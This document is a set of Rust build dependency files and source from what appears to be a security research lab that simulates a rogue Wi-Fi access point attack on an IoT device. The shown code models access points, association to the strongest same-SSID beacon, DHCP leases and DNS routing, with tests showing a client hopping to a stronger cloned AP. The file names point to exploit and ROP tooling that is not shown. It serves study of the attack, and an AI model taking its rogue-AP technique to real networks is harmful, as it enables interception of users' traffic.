/root/repo/target/debug/deps/libcml_firmware-f8173235769e9a20.rmeta: crates/firmware/src/lib.rs crates/firmware/src/build.rs crates/firmware/src/profile.rs Cargo.toml

crates/firmware/src/lib.rs:
crates/firmware/src/build.rs:
crates/firmware/src/profile.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
