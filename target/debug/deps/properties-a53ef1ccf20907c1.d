/root/repo/target/debug/deps/properties-a53ef1ccf20907c1.d: tests/properties.rs

/root/repo/target/debug/deps/properties-a53ef1ccf20907c1: tests/properties.rs

tests/properties.rs:
