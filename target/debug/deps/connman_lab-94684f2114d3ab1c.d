/root/repo/target/debug/deps/connman_lab-94684f2114d3ab1c.d: src/lib.rs

/root/repo/target/debug/deps/connman_lab-94684f2114d3ab1c: src/lib.rs

src/lib.rs:
