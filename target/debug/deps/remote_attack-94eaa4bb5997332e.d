/root/repo/target/debug/deps/remote_attack-94eaa4bb5997332e.d: tests/remote_attack.rs

/root/repo/target/debug/deps/remote_attack-94eaa4bb5997332e: tests/remote_attack.rs

tests/remote_attack.rs:
