/root/repo/target/debug/deps/gadget_search-ee02fdafd03c53c2.d: crates/bench/benches/gadget_search.rs Cargo.toml

/root/repo/target/debug/deps/libgadget_search-ee02fdafd03c53c2.rmeta: crates/bench/benches/gadget_search.rs Cargo.toml

crates/bench/benches/gadget_search.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
