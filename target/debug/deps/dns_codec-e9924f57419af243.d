/root/repo/target/debug/deps/dns_codec-e9924f57419af243.d: crates/bench/benches/dns_codec.rs Cargo.toml

/root/repo/target/debug/deps/libdns_codec-e9924f57419af243.rmeta: crates/bench/benches/dns_codec.rs Cargo.toml

crates/bench/benches/dns_codec.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
