/root/repo/target/debug/deps/gadget_soundness-a946e3255df8fb9e.d: crates/exploit/tests/gadget_soundness.rs

/root/repo/target/debug/deps/gadget_soundness-a946e3255df8fb9e: crates/exploit/tests/gadget_soundness.rs

crates/exploit/tests/gadget_soundness.rs:
