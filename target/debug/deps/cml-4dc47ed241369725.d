/root/repo/target/debug/deps/cml-4dc47ed241369725.d: src/bin/cml.rs Cargo.toml

/root/repo/target/debug/deps/libcml-4dc47ed241369725.rmeta: src/bin/cml.rs Cargo.toml

src/bin/cml.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
