/root/repo/target/debug/deps/gadget_soundness-cfd34ccb6cd0b516.d: crates/exploit/tests/gadget_soundness.rs Cargo.toml

/root/repo/target/debug/deps/libgadget_soundness-cfd34ccb6cd0b516.rmeta: crates/exploit/tests/gadget_soundness.rs Cargo.toml

crates/exploit/tests/gadget_soundness.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
