/root/repo/target/debug/deps/cml_image-d85ecd5f2e1335a4.d: crates/image/src/lib.rs crates/image/src/arch.rs crates/image/src/builder.rs crates/image/src/image.rs crates/image/src/layout.rs crates/image/src/perms.rs crates/image/src/section.rs crates/image/src/symbol.rs

/root/repo/target/debug/deps/libcml_image-d85ecd5f2e1335a4.rlib: crates/image/src/lib.rs crates/image/src/arch.rs crates/image/src/builder.rs crates/image/src/image.rs crates/image/src/layout.rs crates/image/src/perms.rs crates/image/src/section.rs crates/image/src/symbol.rs

/root/repo/target/debug/deps/libcml_image-d85ecd5f2e1335a4.rmeta: crates/image/src/lib.rs crates/image/src/arch.rs crates/image/src/builder.rs crates/image/src/image.rs crates/image/src/layout.rs crates/image/src/perms.rs crates/image/src/section.rs crates/image/src/symbol.rs

crates/image/src/lib.rs:
crates/image/src/arch.rs:
crates/image/src/builder.rs:
crates/image/src/image.rs:
crates/image/src/layout.rs:
crates/image/src/perms.rs:
crates/image/src/section.rs:
crates/image/src/symbol.rs:
