/root/repo/target/debug/examples/rop_workbench-750631612ce6dc3a.d: examples/rop_workbench.rs Cargo.toml

/root/repo/target/debug/examples/librop_workbench-750631612ce6dc3a.rmeta: examples/rop_workbench.rs Cargo.toml

examples/rop_workbench.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
