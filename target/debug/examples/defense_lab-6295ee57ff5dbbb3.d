/root/repo/target/debug/examples/defense_lab-6295ee57ff5dbbb3.d: examples/defense_lab.rs Cargo.toml

/root/repo/target/debug/examples/libdefense_lab-6295ee57ff5dbbb3.rmeta: examples/defense_lab.rs Cargo.toml

examples/defense_lab.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
