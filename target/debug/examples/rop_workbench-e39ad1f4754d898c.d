/root/repo/target/debug/examples/rop_workbench-e39ad1f4754d898c.d: examples/rop_workbench.rs

/root/repo/target/debug/examples/rop_workbench-e39ad1f4754d898c: examples/rop_workbench.rs

examples/rop_workbench.rs:
