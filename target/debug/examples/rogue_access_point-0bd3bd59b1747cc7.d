/root/repo/target/debug/examples/rogue_access_point-0bd3bd59b1747cc7.d: examples/rogue_access_point.rs Cargo.toml

/root/repo/target/debug/examples/librogue_access_point-0bd3bd59b1747cc7.rmeta: examples/rogue_access_point.rs Cargo.toml

examples/rogue_access_point.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
