/root/repo/target/debug/examples/defense_lab-3259e47a18527c96.d: examples/defense_lab.rs

/root/repo/target/debug/examples/defense_lab-3259e47a18527c96: examples/defense_lab.rs

examples/defense_lab.rs:
