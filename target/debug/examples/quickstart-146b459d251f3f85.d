/root/repo/target/debug/examples/quickstart-146b459d251f3f85.d: examples/quickstart.rs

/root/repo/target/debug/examples/quickstart-146b459d251f3f85: examples/quickstart.rs

examples/quickstart.rs:
