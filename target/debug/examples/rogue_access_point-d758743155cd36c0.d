/root/repo/target/debug/examples/rogue_access_point-d758743155cd36c0.d: examples/rogue_access_point.rs

/root/repo/target/debug/examples/rogue_access_point-d758743155cd36c0: examples/rogue_access_point.rs

examples/rogue_access_point.rs:
