/root/repo/target/debug/examples/quickstart-ac6d49eaec729c09.d: examples/quickstart.rs Cargo.toml

/root/repo/target/debug/examples/libquickstart-ac6d49eaec729c09.rmeta: examples/quickstart.rs Cargo.toml

examples/quickstart.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
