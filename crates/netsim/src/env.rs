//! The radio environment: APs, scanning, association, and datagram
//! routing to services.

use std::collections::HashMap;
use std::net::Ipv4Addr;
use std::sync::Arc;

use parking_lot::Mutex;

use crate::addr::{HwAddr, Ssid};
use crate::ap::{AccessPoint, Lease};

/// Handle to a deployed access point.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct ApId(usize);

/// One beacon a scan observed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScanResult {
    /// The AP handle.
    pub ap: ApId,
    /// Broadcast SSID.
    pub ssid: Ssid,
    /// The AP's hardware address.
    pub bssid: HwAddr,
    /// Observed signal strength in dBm.
    pub signal_dbm: i32,
}

/// A request/response UDP endpoint (a DNS server, in this lab).
pub trait UdpService: Send {
    /// Handles one datagram; `Some(bytes)` is sent back to the caller.
    fn handle_datagram(&mut self, payload: &[u8]) -> Option<Vec<u8>>;

    /// [`handle_datagram`](Self::handle_datagram) into a reusable
    /// buffer: replaces `out`'s contents with the response and returns
    /// `true`, or returns `false` when the datagram goes unanswered.
    ///
    /// The default just wraps `handle_datagram`; services with a
    /// zero-copy encoder override this so a warm `out` never
    /// reallocates.
    fn handle_datagram_into(&mut self, payload: &[u8], out: &mut Vec<u8>) -> bool {
        match self.handle_datagram(payload) {
            Some(resp) => {
                out.clear();
                out.extend_from_slice(&resp);
                true
            }
            None => false,
        }
    }
}

impl<F> UdpService for F
where
    F: FnMut(&[u8]) -> Option<Vec<u8>> + Send,
{
    fn handle_datagram(&mut self, payload: &[u8]) -> Option<Vec<u8>> {
        self(payload)
    }
}

/// A shareable service endpoint.
pub type SharedService = Arc<Mutex<dyn UdpService>>;

/// Observable things that happened on the network (for experiment
/// transcripts).
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum NetEvent {
    /// An AP started broadcasting.
    ApUp {
        /// Its handle.
        ap: ApId,
        /// Its SSID.
        ssid: Ssid,
        /// Its signal.
        signal_dbm: i32,
    },
    /// An AP went away.
    ApDown {
        /// Its handle.
        ap: ApId,
    },
    /// A station associated and got a lease.
    Associated {
        /// Client hardware address.
        mac: HwAddr,
        /// The chosen AP.
        ap: ApId,
        /// The granted lease.
        lease: Lease,
    },
    /// A datagram was delivered to a service.
    Delivered {
        /// Destination service address.
        dst: Ipv4Addr,
        /// Payload size.
        len: usize,
        /// Whether a response came back.
        answered: bool,
    },
    /// A datagram had no service to go to.
    Unroutable {
        /// Destination address.
        dst: Ipv4Addr,
    },
}

/// The simulated airspace plus the IP services reachable through it.
#[derive(Default)]
pub struct RadioEnvironment {
    aps: Vec<Option<AccessPoint>>,
    services: HashMap<Ipv4Addr, SharedService>,
    events: Vec<NetEvent>,
}

impl std::fmt::Debug for RadioEnvironment {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("RadioEnvironment")
            .field("aps", &self.aps.iter().filter(|a| a.is_some()).count())
            .field("services", &self.services.keys().collect::<Vec<_>>())
            .field("events", &self.events.len())
            .finish()
    }
}

impl RadioEnvironment {
    /// An empty environment.
    pub fn new() -> Self {
        RadioEnvironment::default()
    }

    /// Deploys an access point.
    pub fn add_ap(&mut self, ap: AccessPoint) -> ApId {
        let id = ApId(self.aps.len());
        self.events.push(NetEvent::ApUp {
            ap: id,
            ssid: ap.ssid().clone(),
            signal_dbm: ap.signal_dbm(),
        });
        self.aps.push(Some(ap));
        id
    }

    /// Tears an access point down.
    pub fn remove_ap(&mut self, id: ApId) {
        if let Some(slot) = self.aps.get_mut(id.0) {
            if slot.take().is_some() {
                self.events.push(NetEvent::ApDown { ap: id });
            }
        }
    }

    /// Mutable access to a deployed AP (e.g. to retune signal).
    pub fn ap_mut(&mut self, id: ApId) -> Option<&mut AccessPoint> {
        self.aps.get_mut(id.0).and_then(|s| s.as_mut())
    }

    /// Registers a UDP service at an address.
    pub fn register_service(&mut self, addr: Ipv4Addr, service: SharedService) {
        self.services.insert(addr, service);
    }

    /// Removes the service at an address.
    pub fn unregister_service(&mut self, addr: Ipv4Addr) {
        self.services.remove(&addr);
    }

    /// Scans the airspace: every live AP's beacon.
    pub fn scan(&self) -> Vec<ScanResult> {
        self.aps
            .iter()
            .enumerate()
            .filter_map(|(i, slot)| {
                slot.as_ref().map(|ap| ScanResult {
                    ap: ApId(i),
                    ssid: ap.ssid().clone(),
                    bssid: ap.config().bssid,
                    signal_dbm: ap.signal_dbm(),
                })
            })
            .collect()
    }

    /// Associates `mac` with the **strongest** AP broadcasting `ssid`
    /// and runs DHCP — the 802.11 roaming behaviour the Pineapple preys
    /// on.
    ///
    /// Walks the beacon table directly rather than materializing a
    /// [`scan`](Self::scan) result vector; ties break toward the
    /// most-recently deployed AP, matching `Iterator::max_by_key` over
    /// the scan order.
    pub fn associate(&mut self, mac: HwAddr, ssid: &Ssid) -> Option<(ApId, Lease)> {
        let mut best: Option<(usize, i32)> = None;
        for (i, slot) in self.aps.iter().enumerate() {
            if let Some(ap) = slot {
                if ap.ssid() == ssid && best.is_none_or(|(_, dbm)| ap.signal_dbm() >= dbm) {
                    best = Some((i, ap.signal_dbm()));
                }
            }
        }
        let (idx, _) = best?;
        let ap = self.aps[idx].as_mut()?;
        let lease = ap.lease(mac);
        self.events.push(NetEvent::Associated {
            mac,
            ap: ApId(idx),
            lease,
        });
        Some((ApId(idx), lease))
    }

    /// Sends a datagram to the service at `dst`, returning its response.
    pub fn send(&mut self, dst: Ipv4Addr, payload: &[u8]) -> Option<Vec<u8>> {
        let mut out = Vec::new();
        if self.send_into(dst, payload, &mut out) {
            Some(out)
        } else {
            None
        }
    }

    /// [`send`](Self::send) into a reusable buffer: replaces `out`'s
    /// contents with the response and returns `true`, or returns `false`
    /// when the datagram was unroutable or unanswered. With a service
    /// that overrides [`UdpService::handle_datagram_into`], a warm `out`
    /// makes the whole round trip allocation-free.
    pub fn send_into(&mut self, dst: Ipv4Addr, payload: &[u8], out: &mut Vec<u8>) -> bool {
        match self.services.get(&dst).cloned() {
            Some(service) => {
                let answered = service.lock().handle_datagram_into(payload, out);
                self.events.push(NetEvent::Delivered {
                    dst,
                    len: payload.len(),
                    answered,
                });
                answered
            }
            None => {
                self.events.push(NetEvent::Unroutable { dst });
                false
            }
        }
    }

    /// The event transcript so far.
    pub fn events(&self) -> &[NetEvent] {
        &self.events
    }

    /// Discards the event transcript, releasing its memory for reuse.
    ///
    /// Long-lived environments (the fleet harness runs thousands of
    /// sessions through one) call this between sessions so the
    /// transcript does not grow without bound.
    pub fn clear_events(&mut self) {
        self.events.clear();
    }
}

/// Wraps a service value into the shared handle form.
pub fn share<S: UdpService + 'static>(service: S) -> SharedService {
    Arc::new(Mutex::new(service))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ap::{ApConfig, DhcpConfig};

    fn ap(ssid: &str, id: u16, dbm: i32, dns_last: u8) -> AccessPoint {
        AccessPoint::new(ApConfig {
            ssid: ssid.into(),
            bssid: HwAddr::local(id),
            signal_dbm: dbm,
            dhcp: DhcpConfig::new([10, 0, id as u8], Ipv4Addr::new(10, 0, 0, dns_last)),
        })
    }

    #[test]
    fn association_picks_strongest_matching_ssid() {
        let mut env = RadioEnvironment::new();
        env.add_ap(ap("Home", 1, -70, 1));
        let strong = env.add_ap(ap("Home", 2, -40, 2));
        env.add_ap(ap("Other", 3, -10, 3));
        let (chosen, lease) = env.associate(HwAddr::local(9), &"Home".into()).unwrap();
        assert_eq!(chosen, strong);
        assert_eq!(lease.dns, Ipv4Addr::new(10, 0, 0, 2));
    }

    #[test]
    fn association_fails_without_matching_ssid() {
        let mut env = RadioEnvironment::new();
        env.add_ap(ap("Home", 1, -70, 1));
        assert!(env.associate(HwAddr::local(9), &"Work".into()).is_none());
    }

    #[test]
    fn removed_ap_stops_beaconing() {
        let mut env = RadioEnvironment::new();
        let id = env.add_ap(ap("Home", 1, -40, 1));
        env.add_ap(ap("Home", 2, -80, 2));
        env.remove_ap(id);
        let (chosen, _) = env.associate(HwAddr::local(9), &"Home".into()).unwrap();
        assert_ne!(chosen, id, "fallback to the weaker survivor");
        assert_eq!(env.scan().len(), 1);
    }

    #[test]
    fn datagram_routing() {
        let mut env = RadioEnvironment::new();
        let echo = share(|payload: &[u8]| Some(payload.to_vec()));
        env.register_service(Ipv4Addr::new(10, 0, 0, 53), echo);
        assert_eq!(
            env.send(Ipv4Addr::new(10, 0, 0, 53), b"ping"),
            Some(b"ping".to_vec())
        );
        assert_eq!(env.send(Ipv4Addr::new(10, 9, 9, 9), b"ping"), None);
        assert!(matches!(
            env.events().last(),
            Some(NetEvent::Unroutable { .. })
        ));
    }
}
