//! The radio environment: APs, scanning, association, and datagram
//! routing to services.

use std::collections::HashMap;
use std::net::Ipv4Addr;
use std::sync::Arc;

use parking_lot::Mutex;

use crate::addr::{HwAddr, Ssid};
use crate::ap::{AccessPoint, Lease};
use crate::scheduler::{link_latency_us, SimTime};

/// Handle to a deployed access point.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct ApId(usize);

/// One beacon a scan observed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScanResult {
    /// The AP handle.
    pub ap: ApId,
    /// Broadcast SSID.
    pub ssid: Ssid,
    /// The AP's hardware address.
    pub bssid: HwAddr,
    /// Observed signal strength in dBm.
    pub signal_dbm: i32,
}

/// A request/response UDP endpoint (a DNS server, in this lab).
pub trait UdpService: Send {
    /// Handles one datagram; `Some(bytes)` is sent back to the caller.
    fn handle_datagram(&mut self, payload: &[u8]) -> Option<Vec<u8>>;

    /// [`handle_datagram`](Self::handle_datagram) into a reusable
    /// buffer: replaces `out`'s contents with the response and returns
    /// `true`, or returns `false` when the datagram goes unanswered.
    ///
    /// The default just wraps `handle_datagram`; services with a
    /// zero-copy encoder override this so a warm `out` never
    /// reallocates.
    fn handle_datagram_into(&mut self, payload: &[u8], out: &mut Vec<u8>) -> bool {
        match self.handle_datagram(payload) {
            Some(resp) => {
                out.clear();
                out.extend_from_slice(&resp);
                true
            }
            None => false,
        }
    }
}

impl<F> UdpService for F
where
    F: FnMut(&[u8]) -> Option<Vec<u8>> + Send,
{
    fn handle_datagram(&mut self, payload: &[u8]) -> Option<Vec<u8>> {
        self(payload)
    }
}

/// A shareable service endpoint.
pub type SharedService = Arc<Mutex<dyn UdpService>>;

/// Observable things that happened on the network (for experiment
/// transcripts).
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum NetEvent {
    /// An AP started broadcasting.
    ApUp {
        /// Its handle.
        ap: ApId,
        /// Its SSID.
        ssid: Ssid,
        /// Its signal.
        signal_dbm: i32,
    },
    /// An AP went away.
    ApDown {
        /// Its handle.
        ap: ApId,
    },
    /// A station associated and got a lease.
    Associated {
        /// Client hardware address.
        mac: HwAddr,
        /// The chosen AP.
        ap: ApId,
        /// The granted lease.
        lease: Lease,
    },
    /// A datagram was delivered to a service.
    Delivered {
        /// Destination service address.
        dst: Ipv4Addr,
        /// Payload size.
        len: usize,
        /// Whether a response came back.
        answered: bool,
    },
    /// A datagram had no service to go to.
    Unroutable {
        /// Destination address.
        dst: Ipv4Addr,
    },
}

/// The simulated airspace plus the IP services reachable through it.
///
/// Every delivered datagram advances a virtual clock by a per-link
/// latency draw — a pure function of `(latency seed, destination,
/// delivery index)` via [`link_latency_us`] — so packet timing is
/// jittered but exactly reproducible for a given seed.
#[derive(Default)]
pub struct RadioEnvironment {
    aps: Vec<Option<AccessPoint>>,
    services: HashMap<Ipv4Addr, SharedService>,
    events: Vec<NetEvent>,
    latency_seed: u64,
    sends: u64,
    clock_us: SimTime,
}

impl std::fmt::Debug for RadioEnvironment {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("RadioEnvironment")
            .field("aps", &self.aps.iter().filter(|a| a.is_some()).count())
            .field("services", &self.services.keys().collect::<Vec<_>>())
            .field("events", &self.events.len())
            .finish()
    }
}

impl RadioEnvironment {
    /// An empty environment.
    pub fn new() -> Self {
        RadioEnvironment::default()
    }

    /// An empty environment whose link-latency jitter derives from
    /// `seed`. Equal seeds replay identical per-delivery delays.
    pub fn with_latency_seed(seed: u64) -> Self {
        RadioEnvironment {
            latency_seed: seed,
            ..RadioEnvironment::default()
        }
    }

    /// Re-seeds the link-latency jitter (the delivery index keeps
    /// counting, so reseeding mid-run stays deterministic).
    pub fn set_latency_seed(&mut self, seed: u64) {
        self.latency_seed = seed;
    }

    /// The virtual clock: total simulated latency of every delivery
    /// attempt so far, in microseconds.
    pub fn now_us(&self) -> SimTime {
        self.clock_us
    }

    /// Deploys an access point.
    pub fn add_ap(&mut self, ap: AccessPoint) -> ApId {
        let id = ApId(self.aps.len());
        self.events.push(NetEvent::ApUp {
            ap: id,
            ssid: ap.ssid().clone(),
            signal_dbm: ap.signal_dbm(),
        });
        self.aps.push(Some(ap));
        id
    }

    /// Tears an access point down.
    pub fn remove_ap(&mut self, id: ApId) {
        if let Some(slot) = self.aps.get_mut(id.0) {
            if slot.take().is_some() {
                self.events.push(NetEvent::ApDown { ap: id });
            }
        }
    }

    /// Mutable access to a deployed AP (e.g. to retune signal).
    pub fn ap_mut(&mut self, id: ApId) -> Option<&mut AccessPoint> {
        self.aps.get_mut(id.0).and_then(|s| s.as_mut())
    }

    /// Registers a UDP service at an address.
    pub fn register_service(&mut self, addr: Ipv4Addr, service: SharedService) {
        self.services.insert(addr, service);
    }

    /// Removes the service at an address.
    pub fn unregister_service(&mut self, addr: Ipv4Addr) {
        self.services.remove(&addr);
    }

    /// Scans the airspace: every live AP's beacon.
    pub fn scan(&self) -> Vec<ScanResult> {
        self.aps
            .iter()
            .enumerate()
            .filter_map(|(i, slot)| {
                slot.as_ref().map(|ap| ScanResult {
                    ap: ApId(i),
                    ssid: ap.ssid().clone(),
                    bssid: ap.config().bssid,
                    signal_dbm: ap.signal_dbm(),
                })
            })
            .collect()
    }

    /// Associates `mac` with the **strongest** AP broadcasting `ssid`
    /// and runs DHCP — the 802.11 roaming behaviour the Pineapple preys
    /// on.
    ///
    /// Walks the beacon table directly rather than materializing a
    /// [`scan`](Self::scan) result vector; ties break toward the
    /// most-recently deployed AP, matching `Iterator::max_by_key` over
    /// the scan order.
    pub fn associate(&mut self, mac: HwAddr, ssid: &Ssid) -> Option<(ApId, Lease)> {
        let mut best: Option<(usize, i32)> = None;
        for (i, slot) in self.aps.iter().enumerate() {
            if let Some(ap) = slot {
                if ap.ssid() == ssid && best.is_none_or(|(_, dbm)| ap.signal_dbm() >= dbm) {
                    best = Some((i, ap.signal_dbm()));
                }
            }
        }
        let (idx, _) = best?;
        let ap = self.aps[idx].as_mut()?;
        let lease = ap.lease(mac);
        self.events.push(NetEvent::Associated {
            mac,
            ap: ApId(idx),
            lease,
        });
        Some((ApId(idx), lease))
    }

    /// Sends a datagram to the service at `dst`, returning its response.
    pub fn send(&mut self, dst: Ipv4Addr, payload: &[u8]) -> Option<Vec<u8>> {
        let mut out = Vec::new();
        if self.send_into(dst, payload, &mut out) {
            Some(out)
        } else {
            None
        }
    }

    /// [`send`](Self::send) into a reusable buffer: replaces `out`'s
    /// contents with the response and returns `true`, or returns `false`
    /// when the datagram was unroutable or unanswered. With a service
    /// that overrides [`UdpService::handle_datagram_into`], a warm `out`
    /// makes the whole round trip allocation-free.
    pub fn send_into(&mut self, dst: Ipv4Addr, payload: &[u8], out: &mut Vec<u8>) -> bool {
        let delay = link_latency_us(self.latency_seed, u32::from(dst) as u64, self.sends);
        self.sends += 1;
        self.clock_us = self.clock_us.saturating_add(delay);
        match self.services.get(&dst).cloned() {
            Some(service) => {
                let answered = service.lock().handle_datagram_into(payload, out);
                self.events.push(NetEvent::Delivered {
                    dst,
                    len: payload.len(),
                    answered,
                });
                answered
            }
            None => {
                self.events.push(NetEvent::Unroutable { dst });
                false
            }
        }
    }

    /// The event transcript so far.
    pub fn events(&self) -> &[NetEvent] {
        &self.events
    }

    /// Discards the event transcript, releasing its memory for reuse.
    ///
    /// Long-lived environments (the fleet harness runs thousands of
    /// sessions through one) call this between sessions so the
    /// transcript does not grow without bound.
    pub fn clear_events(&mut self) {
        self.events.clear();
    }
}

/// Wraps a service value into the shared handle form.
pub fn share<S: UdpService + 'static>(service: S) -> SharedService {
    Arc::new(Mutex::new(service))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ap::{ApConfig, DhcpConfig};

    fn ap(ssid: &str, id: u16, dbm: i32, dns_last: u8) -> AccessPoint {
        AccessPoint::new(ApConfig {
            ssid: ssid.into(),
            bssid: HwAddr::local(id),
            signal_dbm: dbm,
            dhcp: DhcpConfig::new([10, 0, id as u8], Ipv4Addr::new(10, 0, 0, dns_last)),
        })
    }

    #[test]
    fn association_picks_strongest_matching_ssid() {
        let mut env = RadioEnvironment::new();
        env.add_ap(ap("Home", 1, -70, 1));
        let strong = env.add_ap(ap("Home", 2, -40, 2));
        env.add_ap(ap("Other", 3, -10, 3));
        let (chosen, lease) = env.associate(HwAddr::local(9), &"Home".into()).unwrap();
        assert_eq!(chosen, strong);
        assert_eq!(lease.dns, Ipv4Addr::new(10, 0, 0, 2));
    }

    #[test]
    fn association_fails_without_matching_ssid() {
        let mut env = RadioEnvironment::new();
        env.add_ap(ap("Home", 1, -70, 1));
        assert!(env.associate(HwAddr::local(9), &"Work".into()).is_none());
    }

    #[test]
    fn removed_ap_stops_beaconing() {
        let mut env = RadioEnvironment::new();
        let id = env.add_ap(ap("Home", 1, -40, 1));
        env.add_ap(ap("Home", 2, -80, 2));
        env.remove_ap(id);
        let (chosen, _) = env.associate(HwAddr::local(9), &"Home".into()).unwrap();
        assert_ne!(chosen, id, "fallback to the weaker survivor");
        assert_eq!(env.scan().len(), 1);
    }

    #[test]
    fn link_latency_jitters_deterministically() {
        let run = |seed| {
            let mut env = RadioEnvironment::with_latency_seed(seed);
            let echo = share(|payload: &[u8]| Some(payload.to_vec()));
            env.register_service(Ipv4Addr::new(10, 0, 0, 53), echo);
            let mut stamps = Vec::new();
            for _ in 0..8 {
                env.send(Ipv4Addr::new(10, 0, 0, 53), b"q");
                stamps.push(env.now_us());
            }
            stamps
        };
        let a = run(7);
        assert_eq!(a, run(7), "same seed, same clock trace");
        assert_ne!(a, run(8), "different seed, different jitter");
        let deltas: Vec<_> = std::iter::once(a[0])
            .chain(a.windows(2).map(|w| w[1] - w[0]))
            .collect();
        assert!(
            deltas.windows(2).any(|w| w[0] != w[1]),
            "per-delivery delays must actually jitter: {deltas:?}"
        );
        assert!(deltas
            .iter()
            .all(|&d| d >= crate::scheduler::MIN_LATENCY_US));
    }

    #[test]
    fn datagram_routing() {
        let mut env = RadioEnvironment::new();
        let echo = share(|payload: &[u8]| Some(payload.to_vec()));
        env.register_service(Ipv4Addr::new(10, 0, 0, 53), echo);
        assert_eq!(
            env.send(Ipv4Addr::new(10, 0, 0, 53), b"ping"),
            Some(b"ping".to_vec())
        );
        assert_eq!(env.send(Ipv4Addr::new(10, 9, 9, 9), b"ping"), None);
        assert!(matches!(
            env.events().last(),
            Some(NetEvent::Unroutable { .. })
        ));
    }
}
