//! A wireless client (the IoT device's network interface).

use std::net::Ipv4Addr;

use crate::addr::{HwAddr, Ssid};
use crate::ap::Lease;
use crate::env::{ApId, RadioEnvironment};

/// A live association.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Association {
    /// Which AP the station is on.
    pub ap: ApId,
    /// The DHCP lease it holds.
    pub lease: Lease,
}

/// A station configured like the paper's Raspberry Pi: "utilize DHCP
/// and automatic DNS server via DHCP", preferring one SSID.
#[derive(Debug, Clone)]
pub struct Station {
    mac: HwAddr,
    preferred_ssid: Ssid,
    association: Option<Association>,
}

impl Station {
    /// Creates a station that trusts `ssid`.
    pub fn new(mac: HwAddr, ssid: Ssid) -> Self {
        Station {
            mac,
            preferred_ssid: ssid,
            association: None,
        }
    }

    /// Hardware address.
    pub fn mac(&self) -> HwAddr {
        self.mac
    }

    /// The SSID this station auto-joins.
    pub fn preferred_ssid(&self) -> &Ssid {
        &self.preferred_ssid
    }

    /// Current association, if any.
    pub fn association(&self) -> Option<Association> {
        self.association
    }

    /// Scans and (re)associates with the strongest AP broadcasting the
    /// preferred SSID. Returns `true` when the association changed —
    /// including the silent hop onto a rogue AP.
    pub fn rescan(&mut self, env: &mut RadioEnvironment) -> bool {
        let new = env
            .associate(self.mac, &self.preferred_ssid)
            .map(|(ap, lease)| Association { ap, lease });
        let changed = match (&self.association, &new) {
            (Some(a), Some(b)) => a != b,
            (None, None) => false,
            _ => true,
        };
        self.association = new;
        changed
    }

    /// The DNS server DHCP gave us (what the proxy will query).
    pub fn dns_server(&self) -> Option<Ipv4Addr> {
        self.association.map(|a| a.lease.dns)
    }

    /// Sends a DNS query to the DHCP-assigned resolver and returns the
    /// response, if connected and answered.
    pub fn query_dns(&self, env: &mut RadioEnvironment, query: &[u8]) -> Option<Vec<u8>> {
        let dns = self.dns_server()?;
        env.send(dns, query)
    }

    /// [`query_dns`](Self::query_dns) into a reusable buffer: replaces
    /// `out`'s contents with the response and returns `true`, or
    /// returns `false` when disconnected or unanswered.
    pub fn query_dns_into(
        &self,
        env: &mut RadioEnvironment,
        query: &[u8],
        out: &mut Vec<u8>,
    ) -> bool {
        match self.dns_server() {
            Some(dns) => env.send_into(dns, query, out),
            None => false,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ap::{AccessPoint, ApConfig, DhcpConfig};
    use crate::env::share;

    fn env_with_home(dbm: i32) -> (RadioEnvironment, ApId) {
        let mut env = RadioEnvironment::new();
        let id = env.add_ap(AccessPoint::new(ApConfig {
            ssid: "Home".into(),
            bssid: HwAddr::local(1),
            signal_dbm: dbm,
            dhcp: DhcpConfig::new([192, 168, 0], Ipv4Addr::new(192, 168, 0, 53)),
        }));
        (env, id)
    }

    #[test]
    fn connects_and_learns_dns() {
        let (mut env, _) = env_with_home(-50);
        let mut sta = Station::new(HwAddr::local(77), "Home".into());
        assert!(sta.rescan(&mut env));
        assert_eq!(sta.dns_server(), Some(Ipv4Addr::new(192, 168, 0, 53)));
        assert!(!sta.rescan(&mut env), "stable association is not a change");
    }

    #[test]
    fn hops_to_stronger_clone() {
        let (mut env, _) = env_with_home(-60);
        let mut sta = Station::new(HwAddr::local(77), "Home".into());
        sta.rescan(&mut env);
        // A stronger AP with the same SSID appears.
        env.add_ap(AccessPoint::new(ApConfig {
            ssid: "Home".into(),
            bssid: HwAddr::local(66),
            signal_dbm: -30,
            dhcp: DhcpConfig::new([172, 16, 0], Ipv4Addr::new(172, 16, 0, 66)),
